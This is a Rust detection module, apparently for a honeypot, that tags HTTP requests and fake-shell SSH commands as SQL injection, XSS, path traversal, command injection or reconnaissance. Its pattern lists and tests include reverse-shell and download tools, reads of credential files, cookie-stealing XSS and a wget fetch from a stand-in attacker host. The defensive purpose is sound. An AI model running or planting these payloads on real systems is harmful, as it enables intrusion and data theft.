//! Attack signature detection.
//!
//! Stateless substring classification of request text into attack families.
//! Every family is tested independently; a request may carry any number of
//! tags, reported in family order. Detection never blocks a request.

use once_cell::sync::Lazy;
use regex::{RegexSet, RegexSetBuilder};
use serde::{Deserialize, Serialize};
use std::fmt;

/// Attack family tag
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum AttackTag {
    SqlInjection,
    Xss,
    PathTraversal,
    CommandInjection,
    SuspiciousCommand,
    Reconnaissance,
    BruteForce,
}

/// Reporting severity (never used for control flow)
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Severity {
    Low,
    Medium,
    High,
    Critical,
}

impl AttackTag {
    pub fn as_str(&self) -> &'static str {
        match self {
            AttackTag::SqlInjection => "sql_injection",
            AttackTag::Xss => "xss",
            AttackTag::PathTraversal => "path_traversal",
            AttackTag::CommandInjection => "command_injection",
            AttackTag::SuspiciousCommand => "suspicious_command",
            AttackTag::Reconnaissance => "reconnaissance",
            AttackTag::BruteForce => "brute_force",
        }
    }

    pub fn severity(&self) -> Severity {
        match self {
            AttackTag::SqlInjection => Severity::High,
            AttackTag::CommandInjection => Severity::Critical,
            AttackTag::Xss => Severity::Medium,
            AttackTag::PathTraversal => Severity::Medium,
            AttackTag::SuspiciousCommand => Severity::Critical,
            AttackTag::Reconnaissance => Severity::Low,
            AttackTag::BruteForce => Severity::High,
        }
    }
}

impl fmt::Display for AttackTag {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl fmt::Display for Severity {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            Severity::Low => "low",
            Severity::Medium => "medium",
            Severity::High => "high",
            Severity::Critical => "critical",
        };
        f.write_str(s)
    }
}

/// Severity for a tag given by name; unknown names are `low`
pub fn severity_of(attack_type: &str) -> Severity {
    match attack_type {
        "sql_injection" => Severity::High,
        "command_injection" => Severity::Critical,
        "xss" => Severity::Medium,
        "path_traversal" => Severity::Medium,
        "suspicious_command" => Severity::Critical,
        "reconnaissance" => Severity::Low,
        "brute_force" => Severity::High,
        _ => Severity::Low,
    }
}

pub const SQL_INJECTION_PATTERNS: &[&str] = &[
    "union select",
    "' or '1'='1",
    "drop table",
    "insert into",
    "delete from",
    "update set",
    "--",
    ";--",
];

pub const XSS_PATTERNS: &[&str] = &[
    "<script>",
    "javascript:",
    "onerror=",
    "onload=",
    "<iframe",
    "alert(",
    "document.cookie",
];

pub const PATH_TRAVERSAL_PATTERNS: &[&str] = &["../", "..\\", "%2e%2e/", "%2e%2e\\", "..../"];

// Includes bare CR/LF, so every raw HTTP request carries this tag.
pub const COMMAND_INJECTION_PATTERNS: &[&str] =
    &["|", ";", "&&", "||", "`", "$(", "${", "\n", "\r"];

pub const SUSPICIOUS_COMMAND_PATTERNS: &[&str] = &[
    "wget",
    "curl",
    "nc",
    "netcat",
    "bash -i",
    "/dev/tcp",
    "python -c",
    "perl -e",
    "chmod +x",
    "rm -rf",
    "dd if=",
    "mkfs",
    ">",
    ">>",
    "base64",
    "uuencode",
];

pub const RECONNAISSANCE_PATTERNS: &[&str] = &[
    "uname",
    "whoami",
    "id",
    "ifconfig",
    "ip addr",
    "netstat",
    "ps aux",
    "cat /etc/passwd",
    "cat /etc/shadow",
    "ls -la",
];

/// Failed attempts at which a source counts as brute-forcing
pub const DEFAULT_BRUTE_FORCE_THRESHOLD: u32 = 3;

/// Max chars of the offending input kept in [`AttackDetails`]
const SAMPLE_LEN: usize = 200;

struct Family {
    tag: AttackTag,
    set: RegexSet,
}

fn literal_set(patterns: &[&str], case_insensitive: bool) -> RegexSet {
    RegexSetBuilder::new(patterns.iter().map(|p| regex::escape(p)))
        .case_insensitive(case_insensitive)
        .build()
        .unwrap_or_else(|_| RegexSet::empty())
}

static HTTP_FAMILIES: Lazy<Vec<Family>> = Lazy::new(|| {
    vec![
        Family {
            tag: AttackTag::SqlInjection,
            set: literal_set(SQL_INJECTION_PATTERNS, true),
        },
        Family {
            tag: AttackTag::Xss,
            set: literal_set(XSS_PATTERNS, true),
        },
        Family {
            tag: AttackTag::PathTraversal,
            set: literal_set(PATH_TRAVERSAL_PATTERNS, false),
        },
        Family {
            tag: AttackTag::CommandInjection,
            set: literal_set(COMMAND_INJECTION_PATTERNS, false),
        },
    ]
});

static SSH_FAMILIES: Lazy<Vec<Family>> = Lazy::new(|| {
    vec![
        Family {
            tag: AttackTag::SuspiciousCommand,
            set: literal_set(SUSPICIOUS_COMMAND_PATTERNS, true),
        },
        Family {
            tag: AttackTag::Reconnaissance,
            set: literal_set(RECONNAISSANCE_PATTERNS, true),
        },
    ]
});

fn classify(families: &[Family], text: &str) -> Vec<AttackTag> {
    families
        .iter()
        .filter(|family| family.set.is_match(text))
        .map(|family| family.tag)
        .collect()
}

/// Classify raw HTTP request text (request line, headers and body)
pub fn detect_http(text: &str) -> Vec<AttackTag> {
    classify(&HTTP_FAMILIES, text)
}

/// Classify a shell command line typed into the SSH fake shell
pub fn detect_ssh(command: &str) -> Vec<AttackTag> {
    classify(&SSH_FAMILIES, command)
}

pub fn tag_names(tags: &[AttackTag]) -> Vec<&'static str> {
    tags.iter().map(AttackTag::as_str).collect()
}

/// Reporting record for a single detected attack
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AttackDetails {
    #[serde(rename = "type")]
    pub attack_type: AttackTag,
    pub severity: Severity,
    pub sample: String,
}

pub fn attack_details(tag: AttackTag, sample: &str) -> AttackDetails {
    AttackDetails {
        attack_type: tag,
        severity: tag.severity(),
        sample: sample.chars().take(SAMPLE_LEN).collect(),
    }
}

pub fn is_brute_force(attempts: u32, threshold: u32) -> bool {
    attempts >= threshold
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_sql_injection_detection() {
        let attacks = [
            "GET /item?id=1 UNION SELECT password FROM users",
            "user=admin' OR '1'='1",
            "DROP TABLE accounts",
            "name=admin'--",
        ];

        for attack in attacks {
            let tags = detect_http(attack);
            assert!(tags.contains(&AttackTag::SqlInjection), "Failed to detect: {}", attack);
        }
    }

    #[test]
    fn test_xss_detection() {
        let attacks = [
            "<SCRIPT>alert('XSS')</SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "javascript:void(document.cookie)",
            "<IFRAME src='http://evil.example'>",
        ];

        for attack in attacks {
            assert!(detect_http(attack).contains(&AttackTag::Xss), "Failed to detect: {}", attack);
        }
    }

    #[test]
    fn test_path_traversal_is_case_sensitive() {
        assert_eq!(detect_http("/../../etc/passwd"), vec![AttackTag::PathTraversal]);
        assert_eq!(detect_http("/%2e%2e/etc/passwd"), vec![AttackTag::PathTraversal]);
        assert!(detect_http("/%2E%2E/etc/passwd").is_empty());
    }

    #[test]
    fn test_command_injection_detection() {
        assert_eq!(detect_http("/ping?host=1.1.1.1$(id)"), vec![AttackTag::CommandInjection]);
        assert_eq!(detect_http("`reboot`"), vec![AttackTag::CommandInjection]);
    }

    #[test]
    fn test_raw_http_request_carries_command_injection() {
        let tags = detect_http("GET / HTTP/1.1\r\nHost: example\r\n\r\n");
        assert_eq!(tags, vec![AttackTag::CommandInjection]);
    }

    #[test]
    fn test_multiple_tags_in_family_order() {
        let tags = detect_http("/../x?q=<script>&id=1 union select 1");
        assert_eq!(
            tags,
            vec![AttackTag::SqlInjection, AttackTag::Xss, AttackTag::PathTraversal]
        );
    }

    #[test]
    fn test_clean_request_passes() {
        for uri in ["/api/users", "/static/style.css", "/blog/post/123"] {
            assert!(detect_http(uri).is_empty(), "False positive for: {}", uri);
        }
    }

    #[test]
    fn test_ssh_detection() {
        assert_eq!(
            detect_ssh("WGET http://evil.example/x.sh"),
            vec![AttackTag::SuspiciousCommand]
        );
        assert_eq!(detect_ssh("whoami"), vec![AttackTag::Reconnaissance]);
        assert_eq!(
            detect_ssh("cat /etc/passwd > /tmp/p"),
            vec![AttackTag::SuspiciousCommand, AttackTag::Reconnaissance]
        );
        assert!(detect_ssh("pwd").is_empty());
    }

    #[test]
    fn test_severity_table() {
        assert_eq!(severity_of("sql_injection"), Severity::High);
        assert_eq!(severity_of("command_injection"), Severity::Critical);
        assert_eq!(severity_of("xss"), Severity::Medium);
        assert_eq!(severity_of("path_traversal"), Severity::Medium);
        assert_eq!(severity_of("suspicious_command"), Severity::Critical);
        assert_eq!(severity_of("reconnaissance"), Severity::Low);
        assert_eq!(severity_of("brute_force"), Severity::High);
        assert_eq!(severity_of("port_knock"), Severity::Low);

        for tag in [AttackTag::SqlInjection, AttackTag::Xss, AttackTag::BruteForce] {
            assert_eq!(tag.severity(), severity_of(tag.as_str()));
        }
    }

    #[test]
    fn test_attack_details_truncates_sample() {
        let sample = "x".repeat(500);
        let details = attack_details(AttackTag::Xss, &sample);
        assert_eq!(details.sample.len(), 200);
        assert_eq!(details.severity, Severity::Medium);

        let json = serde_json::to_value(&details).unwrap();
        assert_eq!(json["type"], "xss");
        assert_eq!(json["severity"], "medium");
    }

    #[test]
    fn test_brute_force_threshold() {
        assert!(!is_brute_force(2, DEFAULT_BRUTE_FORCE_THRESHOLD));
        assert!(is_brute_force(3, DEFAULT_BRUTE_FORCE_THRESHOLD));
        assert!(is_brute_force(10, DEFAULT_BRUTE_FORCE_THRESHOLD));
    }
}
